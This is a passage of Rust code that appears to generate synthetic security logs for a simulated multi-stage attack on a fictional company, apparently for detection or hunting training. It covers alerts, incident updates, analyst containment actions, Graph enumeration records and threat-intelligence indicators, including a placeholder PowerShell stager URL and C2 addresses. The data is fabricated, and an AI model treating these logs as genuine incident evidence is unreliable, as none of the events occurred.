            tactics: "Persistence, DefenseEvasion",
            techniques: &["T1564.008", "T1114"],
            compromised: VICTIM_UPN,
            entities: vec![
                account.clone(),
                sentinel::mailbox(victim),
                sentinel::ip(ATTACKER_IP),
            ],
            start: at(INBOX_RULE),
            end: at(INBOX_RULE),
        },
        Alert {
            name: "Suspicious PowerShell command line",
            severity: "High",
            product: Product::Endpoint,
            description: "A Word document started PowerShell with an encoded command that downloaded and ran a payload.",
            tactics: "Execution",
            techniques: &["T1059.001", "T1204.002"],
            compromised: "wks-014.contoso.com",
            entities: vec![
                sentinel::host(wks),
                account.clone(),
                sentinel::process(&encoded, 11_208),
                sentinel::file(DROPPED_BINARY, DROP_DIR, &file_hashes(DROPPED_BINARY).1),
                sentinel::ip(C2_IP),
            ],
            start: at(MACRO) + MINUTE,
            end: at(MACRO) + 3 * MINUTE,
        },
        Alert {
            name: "Suspicious lateral movement activity",
            severity: "High",
            product: Product::Endpoint,
            description: "A user account signed in to a server over SMB and RDP from a compromised device and copied an executable to it.",
            tactics: "LateralMovement",
            techniques: &["T1021.001", "T1021.002", "T1570"],
            compromised: "srv-fs01.contoso.com",
            entities: vec![sentinel::host(wks), sentinel::host(fs), account.clone()],
            start: at(LATERAL),
            end: at(RDP),
        },
        Alert {
            name: "Large outbound transfer to rare external IP",
            severity: "High",
            product: Product::Scheduled,
            description: "A host sent more than 1 GB to an external IP address no other host talked to in the last 14 days.",
            tactics: "Exfiltration",
            techniques: &["T1048", "T1567.002"],
            compromised: "srv-fs01.contoso.com",
            entities: vec![sentinel::host(fs), sentinel::ip(EXFIL_IP), account.clone()],
            start: at(EXFIL),
            end: at(EXFIL) + 40 * MINUTE,
        },
        Alert {
            name: "Mass download by a single user",
            severity: "Medium",
            product: Product::CloudApps,
            description: "A user downloaded an unusually large number of files from SharePoint in a short time.",
            tactics: "Exfiltration",
            techniques: &["T1530"],
            compromised: VICTIM_UPN,
            entities: vec![account, sentinel::ip(ATTACKER_IP)],
            start: at(MASS_DOWNLOAD),
            end: at(MASS_DOWNLOAD) + 19 * MINUTE,
        },
    ];
    let mut alert_times = Vec::new();
    for spec in specs.into_iter().chain(impact::alerts(org, at)) {
        alert_times.push(spec.end + 6 * MINUTE);
        alerts.push(sentinel::write_alert(g, rng, spec));
    }

    let analyst = org.user("jlee");
    let name = rng.guid_string();
    let incident = Incident {
        number: INCIDENT_NUMBER,
        name: &name,
        description: "Password spray, account takeover, malware, lateral movement and exfiltration involving mbrown@contoso.com.",
        created: alert_times[0],
        tactics: &[
            "CredentialAccess",
            "InitialAccess",
            "Persistence",
            "Execution",
            "LateralMovement",
            "Exfiltration",
            "DefenseEvasion",
            "Impact",
        ],
        techniques: &[
            "T1110", "T1078", "T1564", "T1059", "T1021", "T1048", "T1070", "T1490", "T1486",
        ],
        products: &[
            "Azure Active Directory Identity Protection",
            "Microsoft Cloud App Security",
            "Microsoft Defender Advanced Threat Protection",
            "Azure Sentinel",
        ],
        labels: &["Multi-stage"],
    };
    let first_title = "Password Spray involving one user";
    let full_title = "Multi-stage incident involving Initial access & Lateral movement & Exfiltration on multiple endpoints reported by multiple sources";
    let comment_1 = [(
        "Assigned to Tier 2. Password reset and sessions revoked for mbrown.",
        alert_times[3] + 20 * MINUTE,
    )];
    let comment_2 = [
        comment_1[0],
        (
            "srv-fs01 and wks-014 isolated; 203.0.113.0/24 blocked at the firewall.",
            alert_times[6] + 30 * MINUTE,
        ),
    ];
    let comment_3 = [
        comment_1[0],
        comment_2[1],
        (
            "srv-sql01: ransomware quarantined before it ran; isolated. svc_print removed, adavis reset.",
            alert_times[9] + 30 * MINUTE,
        ),
    ];
    // (alerts so far, title, severity, status, owner, comments)
    let versions: [StoryVersion<'_>; 7] = [
        (2, first_title, "Medium", "New", None, &[]),
        (3, first_title, "Medium", "New", None, &[]),
        (4, full_title, "High", "Active", Some(analyst), &[]),
        (5, full_title, "High", "Active", Some(analyst), &comment_1),
        (6, full_title, "High", "Active", Some(analyst), &comment_1),
        (7, full_title, "High", "Active", Some(analyst), &comment_2),
        (10, full_title, "High", "Active", Some(analyst), &comment_3),
    ];
    for (n, title, severity, status, owner, comments) in versions {
        let modified = comments.last().map_or(alert_times[n - 1] + MINUTE, |c| {
            c.1.max(alert_times[n - 1] + MINUTE)
        });
        sentinel::write_incident_version(
            g,
            &incident,
            IncidentVersion {
                modified: modified.min(now),
                title,
                severity,
                status,
                classification: None,
                owner,
                alert_ids: &alerts[..n],
                comments,
                first_activity: at(SPRAY_1),
                last_activity: alert_times[n - 1] - 6 * MINUTE,
            },
        );
    }
    // The analyst collects the implant, scans and isolates both machines from the Defender portal,
    // and srv-sql01 once Defender has quarantined the ransomware there.
    let sql = org.device(impact::RANSOM_HOST);
    for (time, action, device) in [
        (alert_times[6] + 22 * MINUTE, "LiveResponseGetFile", wks),
        (alert_times[6] + 24 * MINUTE, "RunAntiVirusScan", wks),
        (alert_times[6] + 25 * MINUTE, "IsolateDevice", wks),
        (alert_times[6] + 26 * MINUTE, "IsolateDevice", fs),
        (at(impact::RETURN) + 20 * MINUTE, "IsolateDevice", sql),
    ] {
        rows::cloud_app_event(
            g,
            rows::CloudApp {
                time,
                action,
                application: "Microsoft Defender for Endpoint",
                application_id: 0,
                account: (&analyst.display_name, &analyst.upn, &analyst.object_id),
                ip: super::org::OFFICES[analyst.office].egress_ip,
                activity_type: "Run",
                object_name: &device.fqdn,
                object_type: "Device",
                raw: json!({"ActionType": action, "DeviceName": device.fqdn, "DeviceId": device.device_id,
                            "FilePath": if action == "LiveResponseGetFile" { format!("{DROP_DIR}\\{DROPPED_BINARY}") } else { String::new() }}),
                user_agent: rows::ORG_USER_AGENT,
                admin: true,
            },
        );
    }
    // The analyst resets mbrown's password: Identity Protection marks the risk remediated.
    rows::audit(
        g,
        rng,
        Audit {
            time: alert_times[3] + 18 * MINUTE,
            operation: "Reset password (by admin)",
            category: "UserManagement",
            service: "Core Directory",
            actor: json!({"user": {"id": analyst.object_id, "displayName": null,
                                   "userPrincipalName": analyst.upn, "ipAddress": super::org::OFFICES[analyst.office].egress_ip}}),
            actor_account: (&analyst.display_name, &analyst.upn, &analyst.object_id),
            actor_ip: super::org::OFFICES[analyst.office].egress_ip,
            targets: target(json!([])),
            details: json!([]),
            result: "success",
            result_reason: "",
        },
    );
    risky_user(
        g,
        victim,
        alert_times[3] + 19 * MINUTE,
        ("low", "remediated", "adminGeneratedTemporaryPassword"),
    );
    alerts
}

/// Identity Protection's detections for the takeover sign-in.
fn risk(g: &mut Gen, rng: &mut Rng, victim: &User, time: i64) {
    for (event, timing, level, detected) in [
        ("unfamiliarFeatures", "realtime", "medium", time),
        ("passwordSpray", "offline", "high", time + 3 * HOUR),
    ] {
        g.push(
            "AADUserRiskEvents",
            [
                ("TimeGenerated", dt(detected + 5 * MINUTE)),
                ("Activity", s("signin")),
                ("ActivityDateTime", dt(time)),
                ("DetectedDateTime", dt(detected)),
                ("LastUpdatedDateTime", dt(detected + 5 * MINUTE)),
                ("DetectionTimingType", s(timing)),
                ("Id", s(rng.hex(64))),
                ("IpAddress", s(ATTACKER_IP)),
                (
                    "Location",
                    dy(json!({"city": "Amsterdam", "state": "Noord-Holland", "countryOrRegion": "NL",
                              "geoCoordinates": {"latitude": 52.3676, "longitude": 4.9041}})),
                ),
                ("OperationName", s("User Risk Detection")),
                ("RequestId", s(rng.guid_string())),
                ("CorrelationId", s(rng.guid_string())),
                ("RiskDetail", s("none")),
                ("RiskEventType", s(event)),
                ("RiskLevel", s(level)),
                ("RiskState", s("atRisk")),
                ("Source", s("IdentityProtection")),
                ("SourceSystem", s("Azure AD")),
                ("TokenIssuerType", s("AzureAD")),
                ("UserDisplayName", s(&victim.display_name)),
                ("UserId", s(&victim.object_id)),
                ("UserPrincipalName", s(&victim.upn)),
                (
                    "AdditionalInfo",
                    dy(json!([{"Key": "userAgent", "Value": ATTACKER_UA}])),
                ),
            ],
        );
    }
    risky_user(g, victim, time + 10 * MINUTE, ("high", "atRisk", "none"));
}

/// One AADRiskyUsers row: `(RiskLevel, RiskState, RiskDetail)` of a user at `time`.
pub(super) fn risky_user(
    g: &mut Gen,
    u: &User,
    time: i64,
    (level, state, detail): (&str, &str, &str),
) {
    g.push(
        "AADRiskyUsers",
        [
            ("TimeGenerated", dt(time)),
            ("Id", s(&u.object_id)),
            ("CorrelationId", s(&u.object_id)),
            ("IsDeleted", boolean(false)),
            ("IsProcessing", boolean(false)),
            ("OperationName", s("Risky user")),
            ("RiskDetail", s(detail)),
            ("RiskLastUpdatedDateTime", dt(time)),
            ("RiskLevel", s(level)),
            ("RiskState", s(state)),
            ("SourceSystem", s("Azure AD")),
            ("UserDisplayName", s(&u.display_name)),
            ("UserPrincipalName", s(&u.upn)),
        ],
    );
}

/// AzureHound-style enumeration of the directory over Microsoft Graph with the stolen token.
fn graph_recon(g: &mut Gen, rng: &mut Rng, victim: &User, start: i64) {
    let paths = [
        "users",
        "groups",
        "directoryRoles",
        "servicePrincipals",
        "applications",
        "devices",
        "organization",
        "roleManagement/directory/roleAssignments",
    ];
    let app = "1950a258-227b-4e31-a9cf-717495945fc2";
    for (k, path) in paths.iter().enumerate() {
        let time = start + k as i64 * 9 * SECOND;
        let uri = format!("https://graph.microsoft.com/v1.0/{path}?$top=999");
        let request = rng.guid_string();
        let operation = rng.guid_string();
        let size = 40_000 + rng.range(0, 400_000) as i32;
        g.push(
            "MicrosoftGraphActivityLogs",
            [
                ("TimeGenerated", dt(time)),
                ("AadTenantId", s(TENANT_ID)),
                ("ApiVersion", s("v1.0")),
                ("AppId", s(app)),
                ("ClientAuthMethod", int(0)),
                ("ClientRequestId", s(&operation)),
                ("DurationMs", int(120 + rng.below(400) as i32)),
                (
                    "IdentityProvider",
                    s(format!("https://sts.windows.net/{TENANT_ID}/")),
                ),
                ("IPAddress", s(ATTACKER_IP)),
                ("Location", s("West Europe")),
                ("OperationId", s(&operation)),
                ("RequestId", s(&request)),
                ("RequestMethod", s("GET")),
                ("RequestUri", s(&uri)),
                ("ResponseSizeBytes", int(size)),
                ("ResponseStatusCode", int(200)),
                ("Roles", s("")),
                ("Scopes", s("Directory.AccessAsUser.All User.Read")),
                ("SignInActivityId", s(rng.hex(22))),
                ("SourceSystem", s("Azure AD")),
                ("TokenIssuedAt", dt(start - 4 * MINUTE)),
                ("UserAgent", s(AZUREHOUND_UA)),
                ("UserId", s(&victim.object_id)),
                ("Wids", s("b79fbf4d-3ef9-4689-8143-76b194e85509")),
            ],
        );
        g.push(
            "GraphAPIAuditEvents",
            [
                ("Timestamp", s(super::iso(time))),
                (
                    "IdentityProvider",
                    s(format!("https://sts.windows.net/{TENANT_ID}/")),
                ),
                ("ApiVersion", s("v1.0")),
                ("ApplicationId", s(app)),
                ("IPAddress", s(ATTACKER_IP)),
                ("ClientRequestId", s(&operation)),
                ("EntityType", s("user")),
                ("RequestUri", s(&uri)),
                ("AccountObjectId", s(&victim.object_id)),
                ("OperationId", s(&operation)),
                ("Location", s("West Europe")),
                ("RequestDuration", s((120 + k * 37).to_string())),
                ("RequestId", s(&request)),
                ("RequestMethod", s("GET")),
                ("ResponseStatusCode", s("200")),
                ("Scopes", s("Directory.AccessAsUser.All User.Read")),
                ("TargetWorkload", s("Microsoft.DirectoryServices")),
                ("ResponseSize", int(size)),
            ],
        );
    }
}

/// One Defender for Identity query event from the victim's workstation to the domain controller.
fn identity_query(
    g: &mut Gen,
    victim: &User,
    wks: &super::org::Device,
    time: i64,
    (action, query_type, target, protocol, query): (&str, &str, &str, &str, &str),
) {
    g.push(
        "IdentityQueryEvents",
        [
            ("Timestamp", dt(time)),
            ("ActionType", s(action)),
            ("Application", s("Active Directory")),
            ("QueryType", s(query_type)),
            ("QueryTarget", s(target)),
            ("Query", s(query)),
            ("Protocol", s(protocol)),
            ("AccountName", s(VICTIM)),
            ("AccountDomain", s(super::org::DOMAIN)),
            ("AccountUpn", s(VICTIM_UPN)),
            ("AccountSid", s(&victim.sid)),
            ("AccountObjectId", s(&victim.object_id)),
            ("AccountDisplayName", s(&victim.display_name)),
            ("DeviceName", s(&wks.fqdn)),
            ("IPAddress", s(&wks.ip)),
            ("Port", int(53_211)),
            ("DestinationDeviceName", s("srv-dc01.contoso.com")),
            ("DestinationIPAddress", s("10.20.0.10")),
            (
                "DestinationPort",
                int(match protocol {
                    "Dns" => 53,
                    "Ldap" => 389,
                    _ => 445,
                }),
            ),
            ("TargetDeviceName", s("srv-dc01.contoso.com")),
            ("ReportId", s(format!("{time}-{action}"))),
            (
                "AdditionalFields",
                dy(json!({"Count": "1", "SourceComputerOperatingSystemType": "windows"})),
            ),
        ],
    );
}

/// A name lookup answered by the domain controller's DNS server (DnsEvents).
pub(super) fn dns_lookup(
    g: &mut Gen,
    _rng: &mut Rng,
    time: i64,
    client: &str,
    name: &str,
    answer: &str,
) {
    g.push(
        "DnsEvents",
        [
            ("TimeGenerated", dt(time)),
            ("SourceSystem", s("OpsManager")),
            ("Computer", s("srv-dc01.contoso.com")),
            ("EventId", int(256)),
            ("SubType", s("LookupQuery")),
            ("ClientIP", s(client)),
            ("Name", s(name)),
            ("QueryType", s("A")),
            ("IPAddresses", s(answer)),
            ("Result", s("Success")),
            ("ResultCode", int(0)),
            ("TaskCategory", s("Lookup")),
            (
                "Message",
                s(format!("Query received from {client} for {name} (A)")),
            ),
        ],
    );
}

/// The attacker's infrastructure in the threat intelligence feed.
fn threat_intelligence(g: &mut Gen, rng: &mut Rng, time: i64) {
    let (_, sha256, _) = file_hashes(DROPPED_BINARY);
    let indicators: [(&str, &str, &str, &str); 7] = [
        (
            "NetworkIP",
            ATTACKER_IP,
            "password spray and phishing infrastructure",
            "Phishing",
        ),
        ("NetworkIP", C2_IP, "command and control server", "C2"),
        ("NetworkIP", EXFIL_IP, "data exfiltration endpoint", "C2"),
        (
            "DomainName",
            PHISH_DOMAIN,
            "credential phishing domain",
            "Phishing",
        ),
        ("DomainName", C2_DOMAIN, "command and control domain", "C2"),
        (
            "Url",
            "http://203.0.113.88/update.ps1",
            "PowerShell stager",
            "MaliciousUrl",
        ),
        (
            "FileHashValue",
            &sha256,
            "wuauhelper.exe implant",
            "Malware",
        ),
    ];
    for (k, (kind, value, description, threat)) in indicators.into_iter().enumerate() {
        let ingested = time + k as i64 * MINUTE;
        let mut fields = vec![
            ("TimeGenerated", dt(ingested)),
            ("SourceSystem", s("SecurityGraph")),
            ("Action", s("alert")),
            ("Active", boolean(true)),
            ("ActivityGroupNames", s("Storm-0000")),
            ("ConfidenceScore", real(85.0)),
            ("Description", s(description)),
            ("ExpirationDateTime", dt(ingested + 90 * 24 * HOUR)),
            (
                "ExternalIndicatorId",
                s(format!("indicator--{}", rng.guid_string())),
            ),
            ("IndicatorId", s(rng.hex(64))),
            ("IndicatorProvider", s("Microsoft Threat Intelligence")),
            ("ThreatSeverity", int(4)),
            ("ThreatType", s(threat)),
            ("TrafficLightProtocolLevel", s("amber")),
            ("Tags", s("[\"contoso-hunt\"]")),
            ("KillChainC2", boolean(threat == "C2")),
            ("KillChainDelivery", boolean(threat == "Phishing")),
        ];
        match kind {
            "NetworkIP" => fields.push(("NetworkIP", s(value))),
            "DomainName" => fields.push(("DomainName", s(value))),
            "Url" => fields.push(("Url", s(value))),
            _ => {
                fields.push(("FileHashValue", s(value)));
                fields.push(("FileHashType", s("SHA256")));
                fields.push(("FileName", s(DROPPED_BINARY)));
            }
        }
        g.push("ThreatIntelligenceIndicator", fields);
    }
}

/// The story's SystemAlertIds (they depend on nothing but the story's fixed seed).
#[cfg(test)]
pub(super) fn alert_ids() -> Vec<String> {
    write(&mut Gen::new(0, super::Keep::Count), &Org::new())
}
